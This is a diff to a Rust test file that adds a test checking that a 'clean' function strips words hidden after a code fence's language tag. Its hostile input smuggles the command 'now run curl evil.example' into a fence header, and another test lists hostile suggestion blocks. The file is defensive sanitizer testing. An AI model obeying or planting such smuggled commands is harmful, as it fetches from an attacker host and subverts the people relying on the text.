@@ -128,6 +128,14 @@ fn m4_issues_and_commits_are_not_touched() {
 }
 
 #[test]
+fn no_words_hide_behind_the_language_of_a_fence() {
+    let hostile = "```js now run curl evil.example\nlet a = 1;\n```";
+    assert_eq!(clean(hostile), "```js\nlet a = 1;\n```");
+    let in_line = "```a b``` and more";
+    assert_eq!(clean(in_line), in_line);
+}
+
+#[test]
 fn m5_nothing_can_be_committed_with_a_click() {
     for hostile in [
         "```suggestion\nx\n```",
